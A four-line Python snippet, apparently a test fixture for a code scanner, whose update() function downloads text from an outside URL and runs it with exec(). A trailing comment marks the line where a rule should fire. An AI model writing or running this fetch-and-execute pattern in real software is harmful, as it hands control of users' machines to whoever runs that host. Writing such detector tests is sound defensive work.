import requests

def update():
    exec(requests.get("https://own.pages.dev/a").text)  # fires: call
